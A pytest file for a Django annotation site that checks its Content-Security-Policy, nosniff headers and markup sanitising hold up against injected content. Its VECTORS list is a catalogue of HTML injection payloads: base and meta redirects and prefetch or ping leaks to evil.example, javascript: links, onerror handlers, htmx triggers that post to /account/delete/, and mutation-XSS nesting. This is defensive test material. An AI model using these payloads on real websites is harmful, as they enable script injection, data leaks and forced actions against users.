"""What would go round the Content-Security-Policy, written into items and asked of every page.

A policy that lets the site's own scripts run is bypassed by markup that these scripts obey (htmx's attributes, hooks by
`data-`, names that hide a variable), by `base`, `meta` and forms, or by a file of somebody's that loads as a script.
"""

import json
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from annotate.models import Item
from tests.site.items.test_media import image_item
from tests.site.labelling.test_labelling import as_annotator
from tests.site.test_access import RULES, address, arguments, cast  # noqa: F401  (fixtures)

pytestmark = [pytest.mark.embedded, pytest.mark.slow]
POLICY = {
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "img-src 'self'",
    "media-src 'self'",
    "font-src 'self'",
    "connect-src 'self'",
    "frame-src 'none'",
    "manifest-src 'self'",
    "form-action 'self'",
    "base-uri 'none'",
}
VECTORS = [
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
    '<meta name="htmx-config" content=\'{"allowEval": true, "selfRequestsOnly": false}\'>',
    '<link rel="stylesheet" href="/media/evil.css">',
    '<link rel="prefetch" href="https://evil.example/?leak">',
    '<form action="https://evil.example/"><input name="answer"><button>Send</button></form>',
    '<button formaction="https://evil.example/" form="answer-form">Send</button>',
    '<a ping="https://evil.example/" href="https://evil.example/">ping</a>',
    '<a href="javascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="//evil">c</a>',
    '<iframe srcdoc="<script src=/media/evil.js></script>"></iframe>',
    '<object data="/media/evil.svg"></object><embed src="/media/evil.swf">',
    '<svg><use href="/media/evil.svg#x"></use><script href="/media/evil.js"></script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></table></math>',
    '<img src="https://evil.example/pixel"><img srcset="https://evil.example/2x 2x"><video poster="//evil/x"></video>',
    '<div hx-get="/projects/" hx-trigger="load" hx-target="body">htmx</div>',
    '<div data-hx-post="/account/delete/" data-hx-trigger="load">htmx</div>',
    '<p hx-on:click="alert(1)" hx-vals=\'js:{a: alert(1)}\' hx-ext="x">htmx</p>',
    '<p id="unsent" name="csrfmiddlewaretoken" class="answer" data-shortcut="1" autofocus tabindex="1">hook</p>',
    '<p style="position:fixed;inset:0">cover</p><p onclick="alert(1)" accesskey="x" contenteditable>event</p>',
    '<script src="/media/evil.js"></script><script>alert(1)</script><noscript><p title="</noscript><img src=x>">',
    '<dialog open>cover</dialog><template><p>hidden</p></template><slot></slot><portal src="//evil"></portal>',
]
KINDS = ["html", "markdown", "text", "chat"]
# What words and structure may have, and nothing else.
ALLOWED = {"a": {"href", "rel", "target"}, "ol": {"start"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}


class Elements(HTMLParser):
    """Each element of a page with its attributes' names; of a link the address, too."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: set[tuple[str, frozenset[str]]] = set()
        self.links: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, frozenset(name for name, _value in attrs)))
        self.links |= {value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")}


def written(kind: str, text: str) -> str:
    return json.dumps([{"role": "user", "content": text}]) if kind == "chat" else text


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_written_into_an_item_is_obeyed_by_the_sites_own_scripts(project, presentation, owner_client, kind):
    """The task and the item's page, with the vectors and with a harmless word: no element or attribute is new."""
    annotator = as_annotator(presentation.annotator)
    shown = presentation.presented.select_related("item").first().item

    def pages(text: str) -> list[Elements]:
        Item.objects.filter(pk=shown.pk).update(kind=kind, body=written(kind, text))
        task = annotator.get(reverse("label", args=[project.pk]))
        item = owner_client.get(reverse("item", args=[project.pk, shown.pk]))
        assert task.status_code == item.status_code == 200
        return [Elements(one.content.decode()) for one in (task, item)]

    short, long = pages("words"), pages("words ".ljust(max(map(len, VECTORS)), "x"))  # which have another layout
    for vector in VECTORS:
        for little, much, after in zip(short, long, pages(f"words {vector} words"), strict=True):
            for tag, names in after.found - little.found - much.found:
                assert names <= ALLOWED.get(tag, set()), (vector, tag, names)
                assert tag not in {"form", "button", "input", "base", "meta", "link", "script", "iframe"}, (vector, tag)
            for link in after.links - little.links - much.links:
                assert link.startswith(("https://evil.example/", "https://", "mailto:", "/static/")), (vector, link)


@pytest.fixture
def owner_client(alice) -> Client:
    client = Client()
    client.force_login(alice)
    return client


def test_every_page_has_the_whole_policy_and_no_answer_is_sniffed(cast, arguments):  # noqa: F811
    n = 0
    for name, (get, _post) in RULES.items():
        if not get:
            continue
        client = cast["owner" if "owner" in get else sorted(get)[0]]
        client.raise_request_exception = False
        response = client.get(address(name, arguments), {"callback": "alert", "jsonp": "alert", "format": "jsonp"})
        if response.status_code >= 300 and response.status_code != 404:
            continue
        assert response["X-Content-Type-Options"] == "nosniff", name
        kind = response.get("Content-Type", "")
        assert "javascript" not in kind or name == "javascript-catalog", name
        if kind.startswith("text/html"):
            n += 1
            told = {one.strip() for one in response["Content-Security-Policy"].split(";")}
            assert told >= POLICY - {"frame-src 'none'"}, name
            assert not any(word in response["Content-Security-Policy"] for word in ("unsafe", "*", "data:", "blob:")), (
                name
            )
            assert b"alert(" not in response.content, name
    assert n > 80


@pytest.mark.parametrize("name", ["evil.js", "evil.mjs", "evil.svg", "evil.html", "evil.wasm", "evil.css", "evil"])
def test_a_file_of_somebodys_is_no_script_on_the_sites_own_address(
    project, presentation, owner_client, settings, tmp_path, name
):
    """What `script-src 'self'` would let run if markup got in: however it came to be stored, it does not load so."""
    settings.MEDIA_ROOT = tmp_path
    item = image_item(project, b"alert(1)", name)
    response = owner_client.get(reverse("item-media", args=[item.pk]))
    kind = response.get("Content-Type", "")
    assert response.status_code in (200, 404)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert (
        not any(word in kind for word in ("script", "html", "svg", "xml", "css", "wasm")) or response.status_code == 404
    )
    if response.status_code == 200:
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
